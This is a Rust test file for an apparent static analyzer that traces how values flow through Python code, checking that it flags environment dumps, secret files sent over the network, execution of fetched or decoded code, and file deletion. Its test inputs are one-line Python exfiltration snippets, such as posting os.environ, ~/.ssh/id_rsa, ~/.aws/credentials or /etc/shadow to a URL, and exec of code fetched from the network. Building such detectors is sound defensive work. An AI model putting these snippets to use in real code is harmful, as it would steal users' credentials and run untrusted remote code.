//! Values on their way.

use super::*;

#[test]
fn the_environment_is_contained_or_not() {
    let net = "import os, requests, subprocess\nrequests.get(input())\n";
    for code in [
        "x = os.environ['A']",
        "x = os.environ.get('A', 'b')",
        "x = os.environ.get(name)",
        "'A' in os.environ",
        "os.environ['A'] = 'b'",
        "os.environ.setdefault('A', 'b')",
        "os.environ.update({'A': 'b'})",
        "del os.environ['A']",
        "os.getenv('A')",
        "env = os.environ.copy()\nenv['A'] = 'b'\nsubprocess.run([], env=env)",
        "subprocess.run([], env={**os.environ, 'A': 'b'})",
        "subprocess.run([], env=dict(os.environ, A='b'))",
        "subprocess.run([], env=os.environ | {'A': 'b'})",
        "def run(env):\n    subprocess.run([], env=env)\nrun(os.environ.copy())",
    ] {
        assert!(!dumps(&format!("{net}{code}\n")), "{code}");
    }
    for code in [
        "print(os.environ)",
        "x = dict(os.environ)",
        "x = str(os.environ)",
        "x = f'{os.environ}'",
        "for k, v in os.environ.items(): print(k, v)",
        "x = {k: v for k, v in os.environ.items()}",
        "env = os.environ.copy()\nsubprocess.run([], env=env)\nlog(env)",
        "from os import environ\nprint(environ)",
    ] {
        assert!(dumps(&format!("{net}{code}\n")), "{code}");
    }
    let lowered = lower("import os\nos.environ['A']\nos.getenv('B')\n");
    let names: Vec<_> = lowered
        .operations
        .iter()
        .filter_map(|operation| match &operation.act {
            Act::Environment { name, .. } => name.as_deref(),
            _ => None,
        })
        .collect();
    assert_eq!(names, ["A", "B"]);
}

#[test]
fn values_flow_through_functions_objects_and_containers() {
    for code in [
        "def collect():\n    return dict(os.environ)\ndef send(d):\n    requests.post(u, json=d)\nsend(collect())",
        "def send(*, d=None):\n    requests.post(u, json=d)\nsend(d=os.environ.copy())",
        "d = {}\nd['env'] = dict(os.environ)\nrequests.post(u, json=d)",
        "d = []\nd.append(str(os.environ))\nrequests.post(u, json=d)",
        "import base64, zlib\nrequests.post(u, data=base64.b64encode(zlib.compress(str(os.environ).encode())))",
        "class A:\n    def __init__(self):\n        self.d = dict(os.environ)\n    def go(self):\n        requests.post(u, json=self.d)",
        "for k, v in os.environ.items():\n    requests.get(u, params={k: v})",
        "class A:\n    def get(self):\n        return dict(os.environ)\n    def go(self):\n        requests.post(u, json=self.get())",
        "class C:\n    def __init__(self):\n        self.d = {}\n    def take(self):\n        for n in os.environ:\n            self.d[n] = os.environ[n]\n        return self\n    def push(self):\n        requests.post(u, json=self.d)\nC().take().push()",
        "s = requests.Session()\ns.headers['x'] = str(os.environ)\ns.get(u)",
        "import email.message\nm = email.message.EmailMessage()\nm.set_content(str(os.environ))\nrequests.post(u, data=m.as_bytes())",
        "global_d = None\ndef fill():\n    global global_d\n    global_d = dict(os.environ)\ndef go():\n    requests.post(u, json=global_d)",
    ] {
        assert!(leaks(&format!("import os, requests\n{code}\n")), "{code}");
    }
}

#[test]
fn secret_files_are_followed() {
    let sent = |code: &str| {
        contacts(&lower(&format!(
            "import os, requests\nfrom pathlib import Path\n{code}\n"
        )))
        .iter()
        .any(|operation| match &operation.act {
            Act::Contact { payload, .. } => payload.origins.has(Origins::SENSITIVE),
            _ => false,
        })
    };
    for code in [
        "requests.post(u, data=open('/etc/passwd').read())",
        "requests.post(u, files={'f': open('/root/.ssh/id_rsa', 'rb')})",
        "with open(os.path.expanduser('~/.aws/credentials')) as f:\n    requests.post(u, data=f.read())",
        "p = os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')\nrequests.post(u, data=open(p).read())",
        "p = Path.home() / '.ssh' / 'id_rsa'\nrequests.post(u, data=p.read_text())",
        "p = os.environ['HOME'] + '/.netrc'\nrequests.post(u, data=open(p).read())",
        "for p in ['~/.netrc', '~/.pypirc']:\n    requests.post(u, data=open(p).read())",
        "d = f'/home/{user}/.ssh'\nfor n in os.listdir(d):\n    requests.post(u, data=open(os.path.join(d, n)).read())",
        "import subprocess\nrequests.post(u, data=subprocess.check_output(['cat', '/etc/shadow']))",
    ] {
        assert!(sent(code), "{code}");
    }
    assert!(!sent("requests.post(u, data=open('notes.txt').read())"));
    assert!(!sent(
        "x = open('/etc/passwd').read()\nrequests.post(u, data='x')"
    ));
}

#[test]
fn code_from_elsewhere_is_told() {
    let origins = |code: &str| {
        lower(code)
            .operations
            .iter()
            .find_map(|operation| match &operation.act {
                Act::Evaluate { code } => Some(code.origins),
                _ => None,
            })
            .unwrap_or_default()
    };
    let get = "import requests, base64, urllib.request\n";
    assert!(origins(&format!("{get}exec(requests.get(u).text)")).has(Origins::NETWORK));
    assert!(
        origins(&format!(
            "{get}exec(urllib.request.urlopen(u).read().decode())"
        ))
        .has(Origins::NETWORK)
    );
    assert!(origins(&format!("{get}exec(base64.b64decode(x))")).has(Origins::DECODED));
    assert!(origins("import zlib\nexec(zlib.decompress(x))").has(Origins::DECODED));
    assert!(origins("exec(open('x').read())").has(Origins::FILE));
    assert!(origins("eval(input())").has(Origins::INPUT));
    assert!(origins("import marshal\nexec(marshal.loads(x))").has(Origins::DECODED));
    assert!(origins("exec(compile(bytes.fromhex('31'), 'x', 'exec'))").has(Origins::DECODED));
    assert!(origins("eval('1')").is_constant());
}

#[test]
fn files_are_read_written_and_removed() {
    let lowered = lower(
        "import os, shutil\nfrom pathlib import Path\nopen('a')\nopen('b', 'w').write('c')\n\
         Path('d').write_text('e')\nshutil.rmtree('f')\nos.remove('g')\nos.dup2(1, 2)\n",
    );
    let acts: Vec<&Act> = lowered
        .operations
        .iter()
        .map(|operation| &operation.act)
        .collect();
    assert!(matches!(acts[0], Act::Read { path } if path.text.as_deref() == Some("a")));
    assert!(matches!(acts[1], Act::Write { path, .. } if path.text.as_deref() == Some("b")));
    assert!(acts.iter().any(|act| matches!(act, Act::Write { content, .. } if content.text.as_deref() == Some("c") && content.origins.is_constant())));
    assert!(
        acts.iter()
            .any(|act| matches!(act, Act::Write { path, .. } if path.text.as_deref() == Some("d")))
    );
    assert!(acts.iter().any(|act| matches!(
        act,
        Act::Delete {
            recursive: true,
            ..
        }
    )));
    assert!(acts.iter().any(|act| matches!(
        act,
        Act::Delete {
            recursive: false,
            ..
        }
    )));
    assert_eq!(acts.last(), Some(&&Act::Rewire));
}
